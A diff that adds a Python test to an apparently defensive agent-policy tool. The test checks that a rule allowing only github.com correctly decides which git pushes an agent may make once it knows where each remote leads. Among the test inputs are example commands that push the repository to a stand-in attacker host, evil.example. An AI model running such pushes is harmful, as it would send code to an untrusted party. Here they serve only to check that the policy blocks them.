@@ -14,9 +14,13 @@ from workbench.app.new_session import new_session
 from workbench.app.rewording import Reworded
 from workbench.app.surroundings import doubts_of_tools, with_answer
 from workbench.app.workbench import Workbench
+from workbench.clarify.written.asked import TriedCall
+from workbench.clarify.written.tried_calls import Trials
 from workbench.cli.report_text import question_lines
-from workbench.model import Question, Tool, Verdict, WorkbenchError
+from workbench.dialect.lowered_policy import lowered_policy
+from workbench.model import Question, RecordedCall, Tool, Verdict, WorkbenchError
 from workbench.question_wording import question_about
+from workbench.session.agent_file import read_agent
 
 ROOT = Path(__file__).parents[2]
 WORDS = "The agent works only in the project folder /srv/app."
@@ -179,3 +183,50 @@ def test_before_anything_is_logged_the_folder_is_asked_for_where_the_request_nam
 
 def _silent(tool: Tool) -> Tool:
     return replace(tool, description="")
+
+
+HOSTS = '''"""Hosts."""
+
+from agent import Bash
+
+DEFAULT = "allow"
+
+
+def forbid_host(call: Bash) -> bool:
+    """R1: Nothing but github.com is reached."""
+    return not call.command.hosts <= {"github.com"}
+'''
+BASH = """
+name = "coder"
+
+[tools.bash]
+cwd = "/repo"
+shell = "bash"
+fields = {command = {type = "command"}}
+parameters = {type = "object", required = ["command"], properties = {command = {type = "string"}}}
+"""
+
+
+def test_it_is_asked_to_which_host_a_remote_of_git_leads_and_the_answer_makes_its_calls_decidable() -> None:
+    agent = read_agent(BASH)
+    terms = lowered_policy(HOSTS, agent).terms
+    logged = [
+        RecordedCall("r", at, "bash", {"command": text})
+        for at, text in enumerate(("ls", "git fetch", "git push -u upstream main", "git push evil.example:x"))
+    ]
+    (doubt,) = doubts_of_tools(terms, agent, "", logged)
+    assert (doubt.kind, doubt.values) == ("remote-host", ("github.com", "meant"))
+    said = with_answer(agent, question_about(doubt), "github.com", {})
+    assert said is not None
+    assert said.tools[0].remotes == {"/repo": {"origin": "github.com", "upstream": "github.com"}}
+    assert not [*doubts_of_tools(lowered_policy(HOSTS, said).terms, said, "", logged)]
+    assert not [*doubts_of_tools(terms, agent, "Nothing is pushed.", logged[:1])]
+    for command, before, after in (
+        ("git push origin main", False, True),
+        ("git push upstream", False, True),
+        ("git push other main", False, False),
+        ("git push git@evil.example:x.git main", False, False),
+    ):
+        call = (TriedCall("bash", {"command": command}),)
+        decided = (Trials(lowered_policy(HOSTS, one).terms, one).confirms(call) for one in (agent, said))
+        assert [*decided] == [before, after], command
